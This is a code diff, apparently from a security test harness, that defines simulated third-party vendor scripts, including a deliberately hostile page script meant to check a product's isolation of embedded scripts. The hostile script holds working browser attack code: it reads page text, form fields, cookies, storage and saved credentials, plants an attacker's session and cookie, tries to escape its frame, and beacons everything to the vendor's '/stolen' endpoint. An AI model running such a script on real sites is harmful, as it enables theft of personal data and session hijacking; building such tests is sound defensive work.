@@ -10,97 +10,168 @@ const redirectTo = (location: string): VendorResponse => ({ status: 307, locatio
 
 const script = (body: string): VendorResponse => ({ type: "text/javascript", body });
 
-/** A vendor's page script: reports each page on which it runs, with all that the browser says of the page's address. */
-const pageScript = (vendor: string) => `(() => {
-  const addresses = [location.href, document.referrer, ...performance.getEntries().map(({ name }) => name)];
-  navigator.sendBeacon(${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: location.pathname }), JSON.stringify(addresses));
-})();`;
-
-/** Every route, as a script would call it: also for the ids that it may find in the browser's storage. */
-const everyRoute = Object.values<Route>(routes).map(({ method, path }) => ({ method, path }));
+/** The page of the site on which a vendor's script runs, as the frame tells it. */
+const toldPage = `new URLSearchParams(location.hash.slice(1)).get("page")`;
 
 /**
- * A page script that takes everything that it can reach: what is typed and shown, what the browser stores, and the household's
- * data, by each way to a route that browsers have. It also tries to survive in the enrollment.
+ * A vendor's page script: reports each page on which it runs, with all that the browser says of the page's address. It counts
+ * its runs in cookie and storage, without which many such scripts stop.
+ */
+const pageScript = (vendor: string) => `(() => {
+  const addresses = [location.href, document.referrer, ...performance.getEntries().map(({ name }) => name)];
+  document.cookie = "visitor=1; path=/; max-age=60";
+  for (const storage of [localStorage, sessionStorage]) storage.setItem("visitor", document.cookie);
+  navigator.sendBeacon(${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: ${toldPage}, kept: localStorage.getItem("visitor") }), JSON.stringify(addresses));
+})();`;
+
+/** Every route, as a script would call it. */
+const everyRoute = Object.values<Route>(routes).map(({ method, path }) => ({
+  method,
+  path: path.replace(/\{\w+\}/g, "message-sent"),
+}));
+
+/** What a hostile script plants: the session of somebody who waits for what the household enters into it. */
+export const planted = {
+  secret: "attackersattackersattackersattackersattacke",
+  sessionId: "a77ac4e2-0000-4000-8000-000000000000",
+};
+
+/**
+ * A page script that takes everything that it can reach from its frame: what the page shows, what the browser stores, and the
+ * household's data, by each way to a route that browsers have. It also plants an own session, and tries to leave its frame.
  */
 const hostilePageScript = (vendor: string) => `(() => {
   const url = ${JSON.stringify(vendor)};
-  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: location.pathname, stolen }));
-  const read = (from, doc) => {
-    for (const { value } of doc.querySelectorAll("input, select, textarea")) if (value) send([from, value]);
-    send([from, doc.body?.innerText ?? ""]);
+  const site = new URL(location.href).origin;
+  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: ${toldPage}, stolen }));
+  const attempt = async (way, target, work) => {
+    const late = new Promise((_, reject) => setTimeout(reject, 2500)); // what is blocked may stay silent
+    try { send([way, target, await Promise.race([work(), late])]); } catch { /* the browser refused */ }
   };
-  const ids = () => ({ sessionId: localStorage.getItem("session_id"), customerId: localStorage.getItem("customer_id") });
-  const pathOf = (path) => path.replace(/\\{(\\w+)\\}/g, (_, name) => ids()[name] ?? "message-sent");
-  const attempt = async (way, path, work) => {
-    const late = new Promise((_, reject) => setTimeout(reject, 2500)); // a worker whose request is blocked stays silent
-    try { send([way, path, await Promise.race([work(), late])]); } catch { /* the browser refused */ }
+  // A window that nobody has prepared: with the browser's own cookies and storage, if it had any.
+  const freshWindow = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
+  const own = (object, name) => Object.getOwnPropertyDescriptor(object, name);
+  const windows = { parent: () => parent, top: () => top, opener: () => opener, fresh: freshWindow };
+  const reads = {
+    text: (w) => w.document.body.innerText || w.document.documentElement.outerHTML,
+    fields: (w) => [...w.document.querySelectorAll("input, select, textarea")].map(({ value }) => value).join(),
+    cookie: (w) => w.document.cookie,
+    localStorage: (w) => JSON.stringify(w.localStorage),
+    sessionStorage: (w) => JSON.stringify(w.sessionStorage),
+    address: (w) => w.location.href,
+    database: (w) => w.indexedDB.databases().then(JSON.stringify),
+    caches: (w) => w.caches.keys().then(JSON.stringify),
   };
-  const fetchText = async (path, options) => (await fetch(path, options)).text();
+  const writes = {
+    cookie: (w) => { w.document.cookie = "__Host-owner=${planted.secret}; Secure; Path=/; SameSite=Lax; Max-Age=9999"; return "written"; },
+    session: (w) => { w.localStorage.setItem("session_id", "${planted.sessionId}"); return "written"; },
+  };
+  const inOtherWindows = () => {
+    for (const [name, get] of Object.entries(windows)) {
+      const other = get();
+      if (other === window) continue; // nobody embeds it
+      for (const [what, read] of Object.entries({ ...reads, ...writes })) {
+        void attempt(name + " " + what, site, async () => {
+          const found = await read(other);
+          // Its own fresh window is empty.
+          if (name === "fresh" && ["text", "fields", "address"].includes(what)) throw new Error("nothing");
+          return found;
+        });
+      }
+    }
+    void attempt("own cookie", site, async () => own(Document.prototype, "cookie").get.call(document));
+    void attempt("plant cookie", site, async () => own(Document.prototype, "cookie").set.call(document, "__Host-owner=${planted.secret}; Secure; Path=/") ?? "written");
+  };
   // Each way ends with what it read, or with an error.
-  const inFrame = (path) => new Promise((resolve, reject) => {
+  const fetchText = async (target, options) => (await fetch(target, options)).text();
+  const byRequest = ({ method, path }) => new Promise((resolve, reject) => {
+    const request = new XMLHttpRequest();
+    request.open(method, site + path);
+    request.withCredentials = true;
+    request.onload = () => resolve(request.responseText);
+    request.onerror = reject;
+    request.send();
+  });
+  const byImage = (target) => new Promise((resolve, reject) => {
+    const image = Object.assign(new Image(), { onload: () => resolve("an image"), src: target });
+    image.onerror = reject; // its timing would tell the size of what the server sent
+  });
+  const inFrame = (target) => new Promise((resolve, reject) => {
     const frame = document.createElement("iframe");
-    frame.hidden = true;
     frame.onload = () => {
       try { resolve(frame.contentDocument.body.innerText); } catch (error) { reject(error); }
     };
-    frame.src = path;
+    frame.src = target;
     document.body.append(frame);
-    setTimeout(() => frame.remove(), 3000);
   });
-  const inWindow = (path) => new Promise((resolve, reject) => {
-    const opened = open(path);
-    if (!opened) return reject(new Error("blocked"));
-    setTimeout(() => {
-      try {
-        const text = opened.document.body.innerText;
-        if (!text) throw new Error("severed");
-        opened.fetch("/api/my-enrollment").then((response) => response.text()).then((own) => send(["window-fetch", path, own]));
-        resolve(text);
-      } catch (error) { reject(error); }
-    }, 1500);
-  });
-  const byForm = (method, path) => {
-    const form = Object.assign(document.createElement("form"), { method, action: path, target: "_blank" });
-    form.enctype = "text/plain";
+  const inWindow = async (target) => {
+    const opened = open(target);
+    if (!opened) throw new Error("blocked");
+    send(["opened", target, "a window"]);
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    send(["window", target, opened.document.body.innerText]);
+    send(["window fetch", target, await (await opened.fetch("/api/my-enrollment")).text()]);
+    return "done";
+  };
+  const byForm = (method, target, where) => {
+    const form = Object.assign(document.createElement("form"), { method, action: target, target: where });
     document.body.append(form);
     form.submit();
+    throw new Error("a form says nothing");
   };
-  const byWorker = (path) => new Promise((resolve, reject) => {
-    const code = "fetch('" + location.origin + path + "', { credentials: 'include' }).then((r) => r.text()).then(postMessage)";
-    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
-    worker.onmessage = ({ data }) => resolve(data);
+  const byWorker = (target, start) => new Promise((resolve, reject) => {
+    const code = "fetch('" + target + "', { credentials: 'include' }).then((r) => r.text()).then(postMessage)";
+    const worker = start(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
+    (worker.port ?? worker).onmessage = ({ data }) => resolve(data);
     worker.onerror = reject;
   });
-  const serviceWorker = () => navigator.serviceWorker.register(document.querySelector("script[src]").src).then(() => "registered");
 
-  const steal = () => {
-    send(["storage", { ...localStorage }, { ...sessionStorage }, document.cookie]);
-    read("page", document);
+  const everyWay = async ({ method, path }) => {
+    const target = site + path;
+    const json = { method, ...(method !== "GET" && { body: "{}", headers: { "content-type": "application/json" } }) };
+    await attempt("fetch", path, () => fetchText(target, json));
+    await attempt("fetch with cookies", path, () => fetchText(target, { ...json, credentials: "include" }));
+    await attempt("opaque fetch", path, () => fetch(target, { mode: "no-cors", credentials: "include" }).then(() => "sent"));
+    navigator.sendBeacon(target, "{}"); // says that it is sent, also if the policy blocks it
+    await attempt("request", path, () => byRequest({ method, path }));
+    await attempt("redirected fetch", path, () => fetchText(url + "/redirect?to=" + encodeURIComponent(target), { credentials: "include" }));
+    await attempt("form", path, () => byForm(method, target, "_blank"));
+    if (method !== "GET") return;
+    await attempt("image", path, () => byImage(target));
+    await attempt("redirected image", path, () => byImage(url + "/redirect?to=" + encodeURIComponent(target)));
+    await attempt("module", path, async () => JSON.stringify((await import(target, { with: { type: "json" } })).default));
+    await attempt("worker", path, () => byWorker(target, (code) => new Worker(code)));
+    await attempt("frame", path, () => inFrame(target));
   };
-  // With what a click of the visitor allows: windows.
   globalThis.stealFromServer = async () => {
-    const everyWay = async ({ method, path: pattern }) => {
-      const path = pathOf(pattern);
-      await attempt("fetch", path, () => fetchText(path, { method, ...(method !== "GET" && { body: "{}", headers: { "content-type": "application/json" } }) }));
-      await attempt("redirected fetch", path, () => fetchText(url + "/redirect?to=" + encodeURIComponent(location.origin + path), { credentials: "include" }));
-      if (method === "GET") {
-        await attempt("module", path, async () => JSON.stringify((await import(path, { with: { type: "json" } })).default));
-        await attempt("worker", path, () => byWorker(path));
-        await attempt("frame", path, () => inFrame(path));
-      }
-      await attempt("form", path, () => byForm(method, path));
-    };
-    const windows = Promise.all(["/signup", "/my-enrollment", "/api/my-enrollment", "/api/my-enrollment/personal-data?format=json", "/robots.txt", "/"].map(
-      (path) => attempt("window", path, () => inWindow(path))));
-    await Promise.all([windows, ...${JSON.stringify(everyRoute)}.map(everyWay)]);
-    await attempt("service worker", "/", serviceWorker);
-    await attempt("frame", "/signup", () => inFrame("/signup"));
+    inOtherWindows();
+    // Also the answers of a firewall, and the frame's own document.
+    for (const path of ["/signup", "/my-enrollment", "/api/my-enrollment", "/pdf/x?too-many", "/robots.txt", "/", "/vendor-scripts.html"]) {
+      void attempt("window", path, () => inWindow(site + path));
+    }
+    await Promise.all(${JSON.stringify(everyRoute)}.map(everyWay));
+    await attempt("shared worker", "/", () => byWorker(site + "/api/my-enrollment", (code) => new SharedWorker(code)));
+    await attempt("service worker", "/", () => navigator.serviceWorker.register("/vendor-scripts.html").then(() => "registered"));
+    await attempt("credentials", "/", () => navigator.credentials.get({ password: true }).then(JSON.stringify));
+    for (const name of ["_top", "_parent"]) {
+      open(site + "/signup", name); // returns the window, also if it may not navigate it
+      await attempt("form " + name, "/", () => byForm("GET", site + "/signup", name));
+    }
+    await attempt("navigation", "/", async () => { top.location = site + "/signup"; return "navigated"; });
+    await attempt("history", "/", async () => { parent.history.back(); return "navigated"; });
+    await attempt("storage access", "/", () => document.requestStorageAccess().then(() => document.cookie || "granted"));
+    await attempt("cookie store", "/", () => cookieStore.getAll().then(JSON.stringify));
+    await attempt("planted cookie store", "/", () => cookieStore.set("__Host-owner", "${planted.secret}").then(() => "written"));
+    history.back();
+    parent.postMessage({ type: "session", session_id: "${planted.sessionId}" }, "*");
     send(["finished"]);
   };
-  for (const event of ["input", "change", "submit", "click", "pagehide", "pageshow"]) addEventListener(event, steal, true);
-  setInterval(steal, 250);
-  steal();
+  /** Ends this script: the frame itself may show another address, with neither cookies nor an origin. */
+  globalThis.leave = (path) => { location.href = site + path; };
+  setInterval(inOtherWindows, 1000);
+  addEventListener("message", ({ data }) => send(["message", JSON.stringify(data)]));
+  inOtherWindows();
+  send(["running"]);
 })();`;
 
 /** All vendors as local servers, with the environment that points the product to them. */
